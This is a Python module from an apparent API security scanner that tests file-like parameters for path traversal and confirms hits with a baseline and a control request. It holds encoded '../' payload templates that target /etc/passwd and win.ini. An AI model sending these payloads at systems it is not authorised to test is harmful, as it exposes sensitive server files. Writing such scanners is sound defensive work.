"""Path traversal: file-like parameters that reach files outside their folder."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator

from middlebrick.checks._injection import Trio, outcome, signature_hits
from middlebrick.checks._probe import Slot, slots
from middlebrick.checks.context import CheckContext
from middlebrick.checks.registry import check
from middlebrick.findings import Confidence, Finding
from middlebrick.http.exchange import Exchange

_TRAVERSAL = "input_validation.path-traversal"

PARAMETERS = 8
"""File-like parameters probed in one scan."""

_DEPTH = 8  # enough ../ to reach the root from any usual folder; extra ones stop at "/"
_SAFE_METHODS = frozenset({"GET", "HEAD", "OPTIONS"})
_FILE_NAME = re.compile(
    r"(?i)file|path|doc(?:ument)?|template|asset|attachment|image|img|download|folder|dir|"
    r"include|page|resource|report|name"
)
_FILE_VALUE = re.compile(r"[\w.-]{0,120}\.[A-Za-z0-9]{1,6}|[\w.-]+(?:/[\w.-]+)+")

# (what it is, the raw path-segment form, the raw query form); {f} is the file, encoded alike.
_ENCODINGS = (
    ("../ with encoded slashes", "..%2f" * _DEPTH + "{f}", "../" * _DEPTH + "{f}"),
    ("fully encoded ../", "%2e%2e%2f" * _DEPTH + "{f}", "%2e%2e%2f" * _DEPTH + "{f}"),
    ("double-encoded ../", "..%252f" * _DEPTH + "{f}", "..%252f" * _DEPTH + "{f}"),
    ("an absolute path", "%2f{f}", "%2f{f}"),
)
_FILES = {
    # file: (path-segment form, query form, double-encoded form)
    "etc/passwd": ("etc%2fpasswd", "etc/passwd", "etc%252fpasswd"),
    "windows/win.ini": ("windows%2fwin.ini", "windows/win.ini", "windows%252fwin.ini"),
}
_MISSING = ("etc%2fmbzq-no-such-file", "etc/mbzq-no-such-file", "etc%252fmbzq-no-such-file")
PROBES_PER_PARAMETER = len(_ENCODINGS) + 2  # the unix encodings, one Windows probe, a control


@check(
    category="input_validation",
    emits={_TRAVERSAL},
    max_requests=PARAMETERS * PROBES_PER_PARAMETER,
)
async def path_traversal(ctx: CheckContext) -> AsyncIterator[Finding]:
    """Path traversal: ``../`` and absolute paths in file-like parameters return system files.

    Probes path and query parameters that look like file names: a baseline value with an
    extension (``logo.svg``) or a path (``docs/a.md``), or a name such as ``file``, ``path``,
    ``template``, ``asset``, ``attachment``, ``download``, ``name``; at most one per operation
    and eight per scan. Each gets, until one works, ``../`` eight levels deep towards
    ``etc/passwd`` with the slashes percent-encoded (``..%2f``), fully encoded (``%2e%2e%2f``)
    and double-encoded (``..%252f``), then the absolute ``/etc/passwd``, then
    ``windows/win.ini`` the first way. Values are sent byte-exact: the HTTP layer never
    normalises ``..`` or re-encodes ``%``.

    Confirmed when the answer holds the file's content (``root:x:0:0:``, or win.ini's
    ``; for 16-bit app support``) that the baseline does not, and a control with the same
    traversal towards a file that does not exist (``etc/mbzq-no-such-file``) does not either.
    Evidence: baseline, probe, control. One finding per operation and parameter.
    """
    tested = 0
    async for operation, exchange in ctx.each(ctx.baseline.items()):
        if tested >= PARAMETERS:
            break
        if operation.method not in _SAFE_METHODS or exchange.response is None:
            continue
        slot = next((s for s in slots(operation, exchange) if _file_like(s)), None)
        if slot is None:
            continue
        tested += 1
        found = await _traverse(ctx, slot)
        if found is None:
            continue
        how, trio = found
        yield ctx.finding(
            _TRAVERSAL,
            operation,
            detail=f"{slot.name} set to {how} answered {outcome(trio.probe, [_TRAVERSAL])} "
            f"where the baseline answered {outcome(trio.baseline)} and the same traversal "
            f"towards a file that does not exist answered {outcome(trio.control)}: the "
            "parameter reads files outside its folder",
            evidence=trio.evidence(),
            parameter=slot.name,
            confidence=Confidence.confirmed,
        )


async def _traverse(ctx: CheckContext, slot: Slot) -> tuple[str, Trio] | None:
    """The first traversal that returns a system file, confirmed by its control."""
    query = slot.where == "query"
    attempts = [(how, segment, in_query, "etc/passwd") for how, segment, in_query in _ENCODINGS]
    attempts.append((*_ENCODINGS[0][:3], "windows/win.ini"))
    for how, segment, query_form, file in attempts:
        template = query_form if query else segment
        probe = await _send(ctx, slot, template, _FILES[file])
        if probe is None or not _shows_file(probe, slot.baseline):
            continue
        control = await _send(ctx, slot, template, _MISSING)
        if control is None or signature_hits(control, [_TRAVERSAL]):
            return None
        raw = _fill(template, _FILES[file], query)
        return f"{how} towards {file} ({raw})", Trio(slot.baseline, probe, control)
    return None


async def _send(
    ctx: CheckContext, slot: Slot, template: str, file: tuple[str, str, str]
) -> Exchange | None:
    request = slot.set_raw(_fill(template, file, slot.where == "query"))
    return None if request is None else await ctx.send(request)


def _fill(template: str, file: tuple[str, str, str], query: bool) -> str:
    """The raw value: the traversal with the file in the matching encoding."""
    plain, in_query, double = file
    if "%252f" in template:
        return template.format(f=double)
    return template.format(f=in_query if query and "%2f" not in template else plain)


def _shows_file(probe: Exchange, baseline: Exchange) -> bool:
    found = set(signature_hits(probe, [_TRAVERSAL]))
    return bool(found - set(signature_hits(baseline, [_TRAVERSAL])))


def _file_like(slot: Slot) -> bool:
    if not slot.value or slot.value.isdigit():
        return False
    return bool(_FILE_VALUE.fullmatch(slot.value)) or bool(_FILE_NAME.search(slot.name))
